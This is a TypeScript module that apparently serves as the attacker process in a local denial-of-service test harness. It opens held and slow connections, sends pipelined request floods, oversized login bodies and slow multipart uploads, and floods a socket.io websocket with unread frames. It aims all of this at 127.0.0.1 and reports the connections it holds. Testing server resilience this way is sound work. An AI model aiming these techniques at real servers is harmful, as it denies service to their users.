import { once } from 'node:events';
import { Agent, request } from 'node:http';
import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { io } from 'socket.io-client';
import type { Attack, Held } from './attacks.ts';

/*
 * An attacker who tries to take all resources. Runs in its own process, so that the measuring process has a core left.
 * Reports once a second how many connections it holds.
 */

const REOPENS_MS = 1_000;
const BUNDLES = 6;
const PAGES = 1_900;
const HANDSHAKES_AT_ONCE = 8;
const ASKS_AT_ONCE = 500;
const PING = 0x89;
const AT_ONCE = 100;

const open = new Set<Socket>();
const tabs = new Set<unknown>();
let refused = 0;
let answered = 0;

/** Holds a connection from `localAddress` that sends `text` and reads nothing. Reopens a lost connection. */
function hold(port: number, localAddress: string, text: string | Buffer, again?: (socket: Socket) => void): void {
  const socket = connect({ port, host: '127.0.0.1', localAddress });
  socket.pause();
  socket.on('error', () => {});
  socket.once('connect', () => {
    open.add(socket);
    socket.write(text);
    again?.(socket);
  });
  socket.once('close', () => {
    open.delete(socket);
    setTimeout(() => hold(port, localAddress, text, again), REOPENS_MS);
  });
}

const get = (path: string, headers = '') => `GET ${path} HTTP/1.1\r\nHost: a\r\n${headers}\r\n`;

/** The mask is zeros: a client must mask every frame, with any mask. */
function frame(text: string, opcode = 0x81): Buffer {
  const size = Buffer.byteLength(text);
  const head = size < 126 ? Buffer.from([opcode, 0x80 | size]) : Buffer.from([opcode, 0xfe, size >> 8, size & 255]);
  return Buffer.concat([head, Buffer.alloc(4), Buffer.from(text)]);
}

/** Signs in over a websocket, then sends joins or pings again and again and reads no answer. */
function holdSocket(port: number, address: string, { token, id }: Attack, n: number): void {
  const upgrade =
    'Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n';
  const ask = (no: number) => (n % 2 === 0 ? frame(`42${no}["join","${id}"]`) : frame('', PING));
  const asks = Buffer.concat(Array.from({ length: ASKS_AT_ONCE }, (_, no) => ask(no)));
  hold(port, address, get('/socket.io/?EIO=4&transport=websocket', upgrade), (socket) => {
    socket.write(frame(`40{"token":"${token}"}`));
    // Sends pongs for pings that it has not read.
    const timer = setInterval(() => socket.write(Buffer.concat([asks, frame('3')])), 100);
    socket.once('close', () => clearInterval(timer));
  });
}

/** Requests one handshake after the other, without a token, and uses none of them. */
async function shakeHands(port: number, localAddress: string): Promise<void> {
  const agent = new Agent({ keepAlive: true, maxSockets: 1 });
  for (;;) {
    const asked = request({
      port,
      host: '127.0.0.1',
      localAddress,
      agent,
      path: '/socket.io/?EIO=4&transport=polling',
    });
    asked.end();
    try {
      const [answer] = (await once(asked, 'response')) as [NodeJS.ReadableStream & { statusCode: number }];
      answered += 1;
      if (answer.statusCode !== 200) refused += 1;
      answer.resume();
      await once(answer, 'end');
    } catch {
      await pause(10);
    }
  }
}

/** Opens `count` sockets of one session. Each reconnects by itself. */
async function openTabs(port: number, { token, count }: Attack): Promise<void> {
  for (let n = 0; n < count; n++) {
    const socket = io(`http://127.0.0.1:${port}`, { transports: ['websocket'], forceNew: true, auth: { token } });
    socket.on('connect', () => tabs.add(socket));
    socket.on('disconnect', () => tabs.delete(socket));
    if (n % AT_ONCE === 0) await pause(100);
  }
}

function begin(attack: Attack): void {
  const { kind, port, addresses, count, path, token } = attack;
  const from = (n: number) => addresses[n % addresses.length] ?? '127.0.0.1';
  const each = (what: (address: string, n: number) => unknown) =>
    Array.from({ length: count }, (_, n) => what(from(n), n));
  const body =
    'POST /api/v1/auth/login/ HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n';
  if (kind === 'pipelines') {
    const text = get('/api/docs/static/swagger-ui-bundle.js').repeat(BUNDLES) + get('/job').repeat(PAGES);
    each((address) => hold(port, address, text));
  } else if (kind === 'downloads') each((address) => hold(port, address, get(path)));
  else if (kind === 'bodies') each((address) => hold(port, address, body + 'a'.repeat(900_000)));
  else if (kind === 'uploads') {
    const form = `POST ${path} HTTP/1.1\r\nHost: a\r\nAuthorization: Token ${token}\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: 9000000\r\n\r\n--x\r\nContent-Disposition: form-data; name="media1"; filename="a"\r\n\r\n`;
    each((address) =>
      hold(port, address, form, (socket) => {
        const timer = setInterval(() => socket.write('a'.repeat(2_000)), 1_000);
        socket.once('close', () => clearInterval(timer));
      }),
    );
  } else if (kind === 'sockets') each((address, n) => holdSocket(port, address, attack, n));
  else if (kind === 'handshakes') for (let n = 0; n < HANDSHAKES_AT_ONCE; n++) void shakeHands(port, from(n));
  else void openTabs(port, attack);
}

process.once('message', (attack: Attack) => {
  begin(attack);
  setInterval(() => process.send?.({ open: open.size, answered: answered + tabs.size, refused } satisfies Held), 1_000);
});
process.once('disconnect', () => process.exit(0));
